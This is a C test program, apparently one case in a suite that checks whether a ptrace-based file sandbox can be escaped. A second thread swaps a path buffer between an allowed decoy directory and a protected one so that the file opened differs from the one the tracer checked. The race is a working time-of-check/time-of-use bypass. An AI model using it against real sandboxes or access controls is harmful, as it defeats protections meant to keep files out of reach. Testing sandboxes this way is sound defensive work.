/*
 * Vector 3: TOCTOU on the path buffer from a second thread. The buffer flips
 * between <root>/unguarded/secret.txt (a decoy, allowed) and
 * <root>/protected/secret.txt (same length) while the main thread opens it:
 * a tracer that reads the path, decides, and lets the kernel read it again loses.
 * expect: ptrace_file
 * expect-match: protected
 */
#include "esc.h"
#include <pthread.h>
#include <stdatomic.h>

static char path[4096];
static size_t dir_off;
static atomic_bool stop;

static void *flipper(void *arg)
{
	(void)arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		memcpy(path + dir_off, "unguarded", 9);
		memcpy(path + dir_off, "protected", 9);
	}
	return NULL;
}

int main(void)
{
	const char *root = esc_env("ESC_ROOT");
	const char *decoy_dir = esc_fmt("%s/unguarded", root);
	mkdir(decoy_dir, 0755);
	int fd = open(esc_fmt("%s/secret.txt", decoy_dir), O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (fd < 0 || write(fd, "decoy\n", 6) != 6)
		esc_broken("decoy: %s", strerror(errno));
	close(fd);
	snprintf(path, sizeof(path), "%s/unguarded/secret.txt", root);
	dir_off = strlen(root) + 1;

	pthread_t t;
	pthread_create(&t, NULL, flipper, NULL);
	double end = esc_now() + esc_race_seconds();
	long tries = 0;
	while (esc_now() < end) {
		tries++;
		fd = openat(AT_FDCWD, path, O_RDONLY);
		if (fd >= 0 && esc_fd_has_secret(fd)) {
			atomic_store(&stop, true);
			esc_success("the racing thread won after %ld opens", tries);
		}
		if (fd >= 0)
			close(fd);
	}
	atomic_store(&stop, true);
	pthread_join(t, NULL);
	esc_blocked("never read the secret in %ld opens", tries);
}
